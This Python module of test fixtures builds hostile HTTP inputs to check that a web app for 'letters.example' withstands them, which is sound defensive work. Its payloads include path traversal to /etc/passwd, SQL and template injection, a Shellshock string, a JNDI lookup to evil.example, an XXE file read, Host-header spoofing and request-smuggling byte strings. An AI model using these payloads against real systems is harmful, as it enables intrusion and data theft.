"""Requests as no browser sends them: bodies, addresses, headers, and whole requests as bytes on a line."""

from collections.abc import Mapping

FORM = "application/x-www-form-urlencoded"
MULTIPART = "multipart/form-data; boundary=b"
TEN_MEGABYTES = 10_000_000
A_MILLION = 1_000_000


def part(head: str, body: str = "x") -> bytes:
    """Write one part of a multipart body by its disposition."""
    return f"--b\r\nContent-Disposition: {head}\r\n\r\n{body}\r\n".encode()


def bodies(nonce: str) -> Mapping[str, tuple[str, bytes]]:
    """Give bodies that hold a good mark and something else that is wrong; by name, with the type each claims to be."""
    good = f"nonce={nonce}&kind=person&email=a%40b.example&visibility=public&name="
    own = b"".join(
        part(f'form-data; name="{name}"', text)
        for name, text in (
            ("nonce", nonce),
            ("kind", "person"),
            ("email", "a@b.example"),
            ("visibility", "public"),
        )
    )
    end = b"--b--\r\n"
    return {
        "a byte that is no text": (FORM, f"{good}River%FFWatch".encode()),
        "raw bytes that are no text": (FORM, good.encode() + b"River\xff\xfe\x80Watch"),
        "a letter cut short": (FORM, f"{good}River%C3".encode()),
        "an overlong slash": (FORM, f"{good}River%C0%AFWatch".encode()),
        "an overlong nul": (FORM, f"{good}River%C0%80Watch".encode()),
        "half a pair": (FORM, f"{good}River%ED%A0%80Watch".encode()),
        "a pair of halves": (FORM, f"{good}%ED%A0%BD%ED%B8%80".encode()),
        "beyond the last plane": (FORM, f"{good}%F4%90%80%80".encode()),
        "five bytes for a letter": (FORM, f"{good}%F8%88%80%80%80".encode()),
        "latin-1": (FORM, f"{good}Soci%E9t%E9".encode()),
        "utf-16": (FORM, good.encode() + "River".encode("utf-16")),
        "a nul": (FORM, f"{good}River%00Watch".encode()),
        "half an escape": (FORM, f"{good}River%".encode()),
        "an escape of no digits": (FORM, f"{good}%zz%u0041%\u0660\u0661".encode()),
        "a claimed charset": (f"{FORM}; charset=utf-7", f"{good}%2BADw-script%2BAD4-".encode()),
        "an unknown charset": (f'{FORM}; charset="no such\0"', f"{good}x%00".encode()),
        "a name given twice": (FORM, f"{good}&name=Second".encode()),
        "names without values": (FORM, b"&&&=&=x&name&&nonce" * 50),
        "many fields": (FORM, b"&".join(b"f%d=" % number for number in range(20_000))),
        "a million fields": (FORM, b"a=&" * A_MILLION),
        "ten megabytes": (FORM, good.encode() + b"x" * TEN_MEGABYTES),
        "ten megabytes of escapes": (FORM, good.encode() + b"%41" * (TEN_MEGABYTES // 3)),
        "ten megabytes of a name": (FORM, b"x" * TEN_MEGABYTES),
        "ten megabytes of noughts": (FORM, b"\0" * TEN_MEGABYTES),
        "a broken byte in a part": (
            MULTIPART,
            own + part('form-data; name="name"').replace(b"\r\nx", b"\r\n\xff") + end,
        ),
        "a part in another charset": (
            MULTIPART,
            own
            + b'--b\r\nContent-Disposition: form-data; name="name"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n'
            b"+ADw-script+AD4-\x00\r\n" + end,
        ),
        "a part called _charset_": (MULTIPART, own + part('form-data; name="_charset_"', "utf-16") + end),
        "a file for a name": (
            MULTIPART,
            own + part('form-data; name="name"; filename="../../etc/passwd"') + end,
        ),
        "a file called by a nul": (MULTIPART, own + part('form-data; name="name"; filename="a\0.txt"') + end),
        "a part without a name": (MULTIPART, own + part("form-data") + end),
        "a part without a head": (MULTIPART, own + b"--b\r\n\r\nx\r\n" + end),
        "a head without an end": (
            MULTIPART,
            own + b"--b\r\nContent-Disposition: form-data; name=" + b"n" * 100_000,
        ),
        "a head of many lines": (MULTIPART, own + b"--b\r\n" + b"X: y\r\n" * 20_000 + b"\r\n\r\nx\r\n" + end),
        "a folded head": (
            MULTIPART,
            own + b'--b\r\nContent-Disposition: form-data;\r\n name="name"\r\n\r\nx\r\n' + end,
        ),
        "a name in the new way": (MULTIPART, own + part("form-data; name*=utf-8''name%00") + end),
        "a name with line ends": (MULTIPART, own + part('form-data; name="na%0D%0AmE"') + end),
        "no last boundary": (MULTIPART, own + part('form-data; name="name"')),
        "no boundary at all": ("multipart/form-data", own + end),
        "an empty boundary": ("multipart/form-data; boundary=", own + end),
        "a boundary of a thousand": (f"multipart/form-data; boundary={'b' * 1_000}", own + end),
        "a boundary with a line end": ('multipart/form-data; boundary="b\r\nc"', own + end),
        "only the last boundary": (MULTIPART, end),
        "nested parts": (
            MULTIPART,
            own
            + b"--b\r\nContent-Disposition: form-data; name=name\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n"
            b"--c\r\n\r\nx\r\n--c--\r\n" + end,
        ),
        "line feeds alone": (MULTIPART, (own + end).replace(b"\r\n", b"\n")),
        "a million parts": (MULTIPART, b"--b\r\n\r\n\r\n" * A_MILLION + end),
        "a thousand parts": (MULTIPART, part('form-data; name="name"') * 1_000 + end),
        "ten megabytes in a part": (
            MULTIPART,
            own + part('form-data; name="name"', "x" * TEN_MEGABYTES) + end,
        ),
        "a part of hyphens": (MULTIPART, own + part('form-data; name="name"', "-" * 200_000) + end),
        "json": ("application/json", b'{"name": "River", "nonce": "x"}'),
        "deep json": ("application/json", b"[" * 100_000),
        "xml": ("text/xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
        "no type": ("", b"name=River"),
        "a type of bytes": ("\xff/\xfe; charset=\xfd", b"name=River"),
        "a type without an end": ('multipart/form-data; boundary="b', own + end),
        "nothing": (FORM, b""),
    }


PATHS: tuple[str, ...] = (
    "/static/../../etc/passwd",
    "/static/..%2f..%2fetc%2fpasswd",
    "/static/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%5c..%5cwin.ini",
    "/static/undersigned.css%00.html",
    "/static//etc/passwd",
    "/letters/../desk",
    "/letters/%2e%2e",
    "/letters/clean-river%00",
    "/letters/clean-river%0d%0aX-Evil:%20yes",
    "/letters/clean-river/../clean-river",
    "/letters/clean-river;a=b",
    "/letters/clean-river/",
    "/letters/CLEAN-RIVER",
    "/letters/clean%2driver%20",
    "/letters/%ff%fe",
    "/letters/%ed%a0%80",
    "/letters/%e2%80%aeriver",
    "/letters/' OR '1'='1",
    "/letters/{{7*7}}",
    "/letters/<script>alert(1)<%2fscript>",
    "/letters/" + "r" * 5_000,
    "/letters//evil.example",
    "//evil.example/",
    "///evil.example/..",
    "/\\evil.example",
    "/%5cevil.example",
    "/http://evil.example/",
    "/.git/config",
    "/.env",
    "/desk",
    "/metrics",
    "/server-status",
    "/confirm/" + "A" * 43,
    "/confirm/" + "A" * 5_000,
    "/confirm/%00" + "A" * 42,
    "/confirm/%ff" + "A" * 42,
    "/confirm/..%2fmanage%2f" + "A" * 30,
    "/manage/" + "%E2%80%8B" * 43,
    "/waiting/" + "٣" * 43,
    "/invitation/null",
    "/unsubscribe/undefined",
    "/approve/%7B%7Btoken%7D%7D",
    "/objection/-1",
    "/embed/..%2f..%2f",
    "/?" + "a=b&" * 5_000,
    "/?lang=../../../etc/passwd",
    "/?lang=%00&lang=%ff",
    "/*",
    "/%",
    "/%zz",
    "/%c0%ae%c0%ae/",
)
"""Addresses that lead nowhere, or to the front page; none may fail, and none may repeat what was asked for as a tag."""

HEADERS: tuple[Mapping[str, str], ...] = (
    {"X-Forwarded-Host": "evil.example"},
    {"X-Forwarded-For": "10.0.0.1, evil.example, ::1"},
    {"X-Forwarded-For": "' OR 1=1 --"},
    {"X-Forwarded-Proto": "javascript"},
    {"X-Forwarded-Port": "99999"},
    {"X-Forwarded-Prefix": "//evil.example"},
    {"X-Forwarded-Server": "evil.example"},
    {"Forwarded": "host=evil.example;proto=http;for=127.0.0.1"},
    {"X-Real-IP": "127.0.0.1"},
    {"X-Original-URL": "/healthz"},
    {"X-Rewrite-URL": "/healthz"},
    {"X-HTTP-Method-Override": "POST"},
    {"X-HTTP-Host-Override": "evil.example"},
    {"X-Host": "evil.example"},
    {"Referer": "https://evil.example/<script>"},
    {"User-Agent": "() { :; }; echo evil.example"},
    {"User-Agent": "${jndi:ldap://evil.example/a}"},
    {"User-Agent": "x" * 50_000},
    {"Accept-Language": "en-" + "x" * 5_000},
    {"Accept-Language": "\u00ff;q=nan, ../../etc;q=-1, *;q=1e309"},
    {"Accept-Language": "en;q=" + "9" * 5_000},
    {"Accept-Language": ",".join(["en"] * 2_000)},
    {"Accept": "application/xml, evil.example/*;q=x"},
    {"Accept-Encoding": "gzip, evil.example;q=2"},
    {"If-None-Match": '"evil.example"'},
    {"If-Modified-Since": "evil.example"},
    {"Range": "bytes=0-1,2-3,-1,99999999999999999999-"},
    {"Cookie": "session=evil.example; " + "a=b; " * 500},
    {"Authorization": "Basic \u00ff\u00fe"},
    {"Upgrade": "h2c", "HTTP2-Settings": "AAMAAABkAAQAAP"},
    {"Content-Type": "evil.example"},
    {"Origin": "https://evil.example"},
    {"Sec-Fetch-Site": "cross-site"},
)
"""Headers of which a page that is opened must not take any notice, or none that repeats them."""

HOSTS: tuple[str, ...] = (
    "evil.example",
    "letters.example.evil.example",
    "evil.example#letters.example",
    "letters.example@evil.example",
    "letters.example:80@evil.example",
    "letters.example:443:80",
    "letters.example:evil",
    "letters.example/evil",
    "letters.example evil.example",
    "letters.example,evil.example",
    "letters.example..",
    ".letters.example",
    "\u0137etters.example",
    "letters.exampl\u00e9",
    "[::1",
    "[evil.example]",
    "a b",
    "",
    "<script>evil</script>",
    "evil.example\tletters.example",
    "x" * 5_000,
)
"""Names by which we are not reached."""


def on_the_line(path: str, smuggled: bytes) -> Mapping[str, bytes]:
    """Give whole requests that servers and proxies read differently; `smuggled` is one that must never be taken."""
    post = f"POST {path} HTTP/1.1\r\nHost: letters.example\r\n".encode()
    get = b"GET / HTTP/1.1\r\nHost: letters.example\r\n"
    length = str(len(smuggled)).encode()
    return {
        "length and chunks": post
        + b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
        + smuggled,
        "chunks and length": post
        + b"Transfer-Encoding: chunked\r\nContent-Length: "
        + length
        + b"\r\n\r\n0\r\n\r\n"
        + smuggled,
        "two lengths": post + b"Content-Length: 0\r\nContent-Length: " + length + b"\r\n\r\n" + smuggled,
        "two lengths in one": post + b"Content-Length: 0, " + length + b"\r\n\r\n" + smuggled,
        "a length with a sign": post + b"Content-Length: +" + length + b"\r\n\r\n" + smuggled,
        "a length below nought": post + b"Content-Length: -1\r\n\r\n" + smuggled,
        "a length in other digits": post + "Content-Length: ٣\r\n\r\n".encode() + smuggled,
        "a length in sixteens": post + b"Content-Length: 0x10\r\n\r\n" + smuggled,
        "a length with a line between": post
        + b"Content_Length: 0\r\nContent-Length: "
        + length
        + b"\r\n\r\n"
        + smuggled,
        "an endless length": post + b"Content-Length: " + b"9" * 400 + b"\r\n\r\n",
        "unknown chunks": post + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + smuggled,
        "chunks twice": post
        + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n"
        + smuggled,
        "chunks before a colon": post + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + smuggled,
        "a chunk of no size": post + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n\r\n" + smuggled,
        "a chunk below nought": post + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n" + smuggled,
        "a chunk too large": post + b"Transfer-Encoding: chunked\r\n\r\n" + b"f" * 40 + b"\r\n",
        "a chunk with words": post
        + b"Transfer-Encoding: chunked\r\n\r\n0;a="
        + b"b" * 100
        + b"\n\r\n"
        + smuggled,
        "a folded header": get + b"X-A: b\r\n c\r\n" + smuggled,
        "a header without a colon": get + b"X-A\r\n\r\n",
        "a header with a nul": get + b"X-A: b\0c\r\n\r\n",
        "a header with half a line end": get + b"X-A: b\rX-Evil: yes\r\n\r\n",
        "line feeds alone": get.replace(b"\r\n", b"\n") + b"\n",
        "a host twice": get + b"Host: evil.example\r\n\r\n",
        "a host elsewhere": b"GET http://evil.example/ HTTP/1.1\r\nHost: letters.example\r\n\r\n",
        "no host": b"GET / HTTP/1.1\r\n\r\n",
        "an old request": b"GET /\r\n\r\n",
        "no version": b"GET / \r\nHost: letters.example\r\n\r\n",
        "a version of its own": b"GET / HTTP/9.9\r\nHost: letters.example\r\n\r\n",
        "a method of its own": b"EVIL / HTTP/1.1\r\nHost: letters.example\r\n\r\n",
        "a method of bytes": b"\xff\xfe\x00 / HTTP/1.1\r\nHost: letters.example\r\n\r\n",
        "a path of bytes": b"GET /\xff\xfe\x80 HTTP/1.1\r\nHost: letters.example\r\n\r\n",
        "a query of bytes": b"GET /?lang=\xff\xfe\x80&\xc3=\xed\xa0\x80 HTTP/1.1\r\nHost: letters.example\r\n\r\n",
        "a path with a nul": b"GET /\0 HTTP/1.1\r\nHost: letters.example\r\n\r\n",
        "a connection": b"CONNECT evil.example:443 HTTP/1.1\r\nHost: letters.example\r\n\r\n",
        "a star": b"OPTIONS * HTTP/1.1\r\nHost: letters.example\r\n\r\n",
        "a greeting of TLS": bytes.fromhex("16030100a5010000a1") + b"\0" * 165,
        "http 2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "many headers": get + b"X-A: b\r\n" * 40_000 + b"\r\n",
        "a long header": get + b"X-A: " + b"b" * 400_000 + b"\r\n\r\n",
        "a long path": b"GET /" + b"a" * 400_000 + b" HTTP/1.1\r\nHost: letters.example\r\n\r\n",
        "waits for leave": post + b"Expect: 100-continue, evil\r\nContent-Length: 0\r\n\r\n",
        "nothing but line ends": b"\r\n" * 100 + b"\r\n",
    }
